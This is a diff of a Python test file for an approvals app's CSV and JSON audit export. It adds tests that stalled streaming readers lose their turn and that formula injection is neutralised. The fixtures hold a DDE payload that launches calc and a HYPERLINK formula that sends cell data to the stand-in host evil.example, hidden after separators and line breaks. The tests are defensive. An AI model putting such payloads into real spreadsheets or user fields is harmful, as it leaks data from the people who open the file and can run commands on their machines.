@@ -17,8 +17,8 @@ from approvals.audit.export import export
 from approvals.audit.models import Checkpoint, Event, Personal
 from approvals.database import tenant_scope
 from approvals.queries import looked
-from approvals.queries.table import COLUMNS, as_text
-from approvals.views import taking
+from approvals.queries.table import COLUMNS, _as_text_in, as_text
+from approvals.views import streaming, taking
 from tests import courses
 from tests.audit.verifier import STRANGER, verified
 from tests.views.conftest import SignIn
@@ -173,6 +173,26 @@ def test_one_at_a_time_and_a_reader_who_goes_away_leaves_nothing_running(
     assert json.loads(taken(ada).splitlines()[-1])["line"] == "end"
 
 
+def test_a_reader_who_stalls_does_not_keep_the_turn(
+    busy: World, sign_in: SignIn, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(streaming, "PATIENCE_SECONDS", 0.2)
+    monkeypatch.setattr(taking, "PIECE", 1)
+    ada = sign_in("ada")
+    first: Any = ada.post(EXPORT)
+
+    async def stall() -> str:
+        pieces = first.streaming_content
+        await anext(pieces)
+        assert await asyncio.to_thread(taking._one_at_a_time.acquire, timeout=10)
+        taking._one_at_a_time.release()
+        with pytest.raises(streaming.Stalled):
+            await anext(pieces)
+        return await asyncio.to_thread(taken, ada)
+
+    assert json.loads(asyncio.run(stall()).splitlines()[-1])["line"] == "end"
+
+
 def test_a_file_that_takes_too_long_is_cut_off_and_proves_nothing(
     busy: World, sign_in: SignIn, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -198,8 +218,8 @@ def test_what_cannot_be_recorded_is_not_taken_away(
 # --- as a table -----------------------------------------------------------------------------------------------
 
 
-def rows(file: str) -> list[list[str]]:
-    return list(csv.reader(StringIO(file)))
+def rows(file: str, separator: str = ",") -> list[list[str]]:
+    return list(csv.reader(StringIO(file, newline=""), delimiter=separator))
 
 
 def test_a_search_is_taken_away_as_a_table(busy: World, sign_in: SignIn) -> None:
@@ -236,6 +256,44 @@ def test_words_of_a_stranger_that_would_be_a_formula_are_text_in_the_file(
     cells = [cell for row in rows(taken(sign_in("ada"), CSV)) for cell in row]
     assert "'=cmd|' /C calc'!A0" in cells
     assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+
+
+LINK = '=HYPERLINK("http://evil.example/?"&A1)'
+SIGNS_OF_FORMULAS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")  # noqa: RUF001
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        f"x;{LINK}",
+        f'x;"{LINK}',
+        f'x"; " {LINK}',
+        f"x|{LINK};@SUM(1)",
+        f"x\t{LINK}",
+        f"x\n{LINK}",
+        f"x\r\n y,{LINK}",
+        f'x\r""," {LINK}',
+        "x;－1+1",  # noqa: RUF001
+    ],
+)
+def test_no_cell_is_a_formula_wherever_a_program_cuts_the_line(
+    web: World, sign_in: SignIn, words: str
+) -> None:
+    """A spreadsheet of most of Europe takes `;` for what separates; then one sorts its first column by commas."""
+    with web.processes.acting_as("migrator"):
+        web.people["lena"].name = words
+        web.people["lena"].save(update_fields=["name"])
+    web.vote(web.submit(reason=f"{words} and more"), "deny", "lena", comment=words)
+    file = taken(sign_in("ada"), CSV)
+    assert "HYPERLINK" in file or "1+1" in file
+    cells = [cell for separator in ",;\t|" for row in rows(file, separator) for cell in row]
+    cells += [again for cell in cells for row in rows(cell) for again in row]
+    assert not [cell for cell in cells if cell.lstrip(' "\t').startswith(SIGNS_OF_FORMULAS)]
+
+
+def test_data_stays_json_with_formulas_in_it_as_text() -> None:
+    data = {"=a": ["x;=1", -5, None, {"b": "-1"}], "c": (True, 0.5)}
+    assert _as_text_in(data) == {"'=a": ["x;'=1", -5, None, {"b": "'-1"}], "c": [True, 0.5]}
 
 
 def test_a_table_that_is_cut_says_so_in_its_last_row(
